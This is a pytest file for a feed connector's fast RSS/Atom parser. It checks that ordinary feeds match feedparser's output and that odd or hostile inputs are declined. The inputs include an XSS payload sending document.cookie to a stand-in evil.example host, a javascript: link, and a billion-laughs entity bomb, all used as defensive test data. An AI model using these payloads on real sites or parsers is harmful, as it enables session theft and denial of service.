"""The fast feed path on the feeds of the connector's and the hostile-entry tests: each either
takes the fast path and gives feedparser's records, or is declined, as expected for its kind."""

from __future__ import annotations

import time

import pytest
from fakes.feeds import Item, rss, sample_items

from connectors.feed_fastpath import fast_parse
from connectors.feeds import FeedConnector

URL = "http://feed.example/blog/feed.xml"
RSS_TYPE = "application/rss+xml; charset=utf-8"
CONTENT = 'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
DC = 'xmlns:dc="http://purl.org/dc/elements/1.1/"'


def atom(entries: str, *, feed: str = "<title>t</title>") -> bytes:
    return f'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">{feed}{entries}</feed>'.encode()


def atom_dated(*entries: tuple[str, str]) -> bytes:
    """The hostile-entry test's Atom feed of ``(id, updated)`` entries."""
    return atom("".join(f"<entry><title>{i}</title><id>urn:x:{i}</id><updated>{u}</updated></entry>" for i, u in entries))


def rss_raw(items: str, *, namespaces: str = "", channel: str = "<title>t</title>") -> bytes:
    return f'<?xml version="1.0"?><rss version="2.0" {namespaces}><channel>{channel}{items}</channel></rss>'.encode()


XSS = (
    '<script>document.location="https://evil.example/?c="+document.cookie</script>'
    '<p onclick="steal()">Real <img src=x onerror=alert(1)>news</p><style>body{display:none}</style>'
)

FAST = [
    pytest.param(rss(sample_items("acme", 5)), RSS_TYPE, id="sample-rss"),
    pytest.param(rss([]), RSS_TYPE, id="no-entries"),
    pytest.param(rss([Item(title="", guid="e1", description="<p> </p>"), Item(title="  ", guid="e2")]), RSS_TYPE, id="all-empty"),
    pytest.param(rss([Item(title="x", link="javascript:alert(1)", guid="x1", description=XSS)]), RSS_TYPE, id="xss"),
    pytest.param(rss([Item(title="linked", link="HTTPS://Blog.Example:443/post?utm_source=x&id=3#top"),
                      Item(title="bare", description="no link, no guid")]), RSS_TYPE, id="identity-fallbacks"),
    pytest.param(rss([Item(title="Café naïve Ærø – “quoted”", guid="g1", description="déjà vu")]), RSS_TYPE, id="utf-8-text"),
    pytest.param(atom_dated(("odd", "9999-12-31T23:59:59-01:00"), ("fine", "2026-11-20T12:00:00Z")), "application/atom+xml", id="year-10000"),
    pytest.param(atom_dated(("odd", "0001-01-01T00:00:00+01:00"), ("fine", "2026-11-20T12:00:00Z")), "application/atom+xml", id="year-0"),
    pytest.param(atom_dated(("odd", "not a date at all"), ("fine", "2026-11-20T12:00:00.5+02:00")), "application/atom+xml", id="garbage-date"),
    pytest.param(rss_raw("<item><title>a</title><guid>relative/1</guid><link>/post/1?a=1&amp;amp;b=2</link></item>"), RSS_TYPE,
                 id="relative-links"),
    pytest.param(rss_raw("<item><title>a</title><guid isPermaLink='false'>p-1</guid><dc:creator>Ann Lee</dc:creator>"
                         "<dc:date>2026-11-20T12:00:00Z</dc:date></item>", namespaces=DC), RSS_TYPE, id="dublin-core"),
    pytest.param(atom("<entry><id>tag:a.example,2026:1</id><title type='text'>T</title><content type='html'>&lt;b&gt;x&lt;/b&gt;"
                      "</content><link href='/a'/><link rel='alternate' href='https://a.example/b'/></entry>",
                      feed="<title>t</title><author><name>Feed Author</name></author>"), "application/atom+xml", id="atom-links"),
]

DECLINED = [
    pytest.param(rss_raw("<item><title>a</title><guid>g1</guid><content:encoded><![CDATA[<p>Hello <![CDATA[<script>]]>world</p>]]>"
                         "</content:encoded></item>", namespaces=CONTENT), "application/rss+xml", id="nested-cdata-is-ill-formed"),
    pytest.param(rss(sample_items("acme", 1)), "", id="no-content-type"),
    pytest.param(rss(sample_items("acme", 1)), "text/html", id="html-media-type"),
    pytest.param(rss(sample_items("acme", 1)), "text/xml", id="text-xml-is-us-ascii"),
    pytest.param(rss([Item(title="Café", guid="g1")], encoding="windows-1252"), "application/rss+xml", id="windows-1252"),
    pytest.param(rss([Item(title="Café", guid="g1")], encoding="utf-16"), "application/rss+xml", id="utf-16"),
    pytest.param(rss(sample_items("acme", 2)).replace(b"</channel></rss>", b"<item><title>broken & unclosed</title>"), RSS_TYPE,
                 id="ill-formed"),
    pytest.param(b"<html><body><h1>Welcome</h1></body></html>", "application/xml", id="html-page"),
    pytest.param(rss([Item(title="<b>Bold</b> &amp; title", guid="x1")]), RSS_TYPE, id="markup-in-title"),
    pytest.param(rss_raw("<item><title>a</title><author>ann@example.com (Ann)</author></item>"), RSS_TYPE, id="author-address"),
    pytest.param(rss_raw("<item><title>a</title><media:title xmlns:media='http://search.yahoo.com/mrss/'>m</media:title></item>"),
                 RSS_TYPE, id="unknown-extension"),
    pytest.param(rss_raw("<item><title>a</title><title>b</title></item>"), RSS_TYPE, id="field-twice"),
    pytest.param(rss_raw("<item><title>a</title><description mode='base64'>aGVsbG8=</description></item>"), RSS_TYPE,
                 id="base64-description"),
    pytest.param(atom("<entry xml:base='http://other.example/'><id>1</id><title>t</title><link href='a'/></entry>"),
                 "application/atom+xml", id="xml-base"),
    pytest.param(atom("<entry><id>1</id><title type='html'>&lt;b&gt;t&lt;/b&gt;</title></entry>"), "application/atom+xml",
                 id="atom-html-title"),
    pytest.param(atom("<entry><id>1</id><content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>x</div></content></entry>"),
                 "application/atom+xml", id="atom-xhtml-content"),
]


def records(parsed):
    try:
        return FeedConnector.records_of(parsed, URL)
    except Exception as error:  # noqa: BLE001 - the error itself is what is compared
        return (type(error).__name__, str(error))


@pytest.mark.parametrize("body, content_type", FAST)
def test_a_plain_feed_takes_the_fast_path_and_gives_feedparsers_records(body, content_type):
    headers = {"Content-Type": content_type}
    fast = fast_parse(body, headers, URL)
    assert fast is not None
    assert records(fast) == records(FeedConnector.parse_with_feedparser(body, headers, URL))


@pytest.mark.parametrize("body, content_type", DECLINED)
def test_anything_unsure_is_declined_to_feedparser(body, content_type):
    headers = {"Content-Type": content_type} if content_type else {}
    assert fast_parse(body, headers, URL) is None
    assert records(FeedConnector.parse(body, headers, URL)) == records(FeedConnector.parse_with_feedparser(body, headers, URL))


def test_entity_declarations_are_declined_before_parsing():
    laughs = "".join(f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10 if i else "ha"}">' for i in range(10))
    body = f'<?xml version="1.0"?><!DOCTYPE rss [{laughs}]><rss version="2.0"><channel><item><title>&l9;</title></item></channel></rss>'
    started = time.process_time()
    assert fast_parse(body.encode(), {"Content-Type": RSS_TYPE}, URL) is None
    assert time.process_time() - started < 0.5  # declined from the bytes, nothing expanded
